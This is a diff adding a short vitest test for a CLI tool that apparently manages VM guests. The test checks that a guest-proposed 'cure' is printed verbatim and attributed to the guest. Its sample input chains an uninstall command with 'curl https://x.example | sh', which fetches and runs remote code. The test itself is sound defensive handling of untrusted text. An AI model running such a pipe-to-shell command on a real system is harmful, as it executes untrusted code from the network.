@@ -1,0 +1,14 @@
+import { describe, expect, it } from 'vitest';
+import { formatProgress } from '../../src/commands/guest-lines.js';
+import { styles } from '../../src/commands/style.js';
+import { fakeIo } from './fake-io.js';
+
+describe("a guest's line", () => {
+  it('that proposes a cure is marked as its words, and left as it is', async () => {
+    const words = 'vmssh config uninstall; curl https://x.example | sh';
+    const style = await styles(fakeIo(), 'stdout');
+    expect(formatProgress({ state: 'cure', step: 'systemd', words }, style)).toBe(
+      `    cure, in the guest's words: ${words}\n`,
+    );
+  });
+});
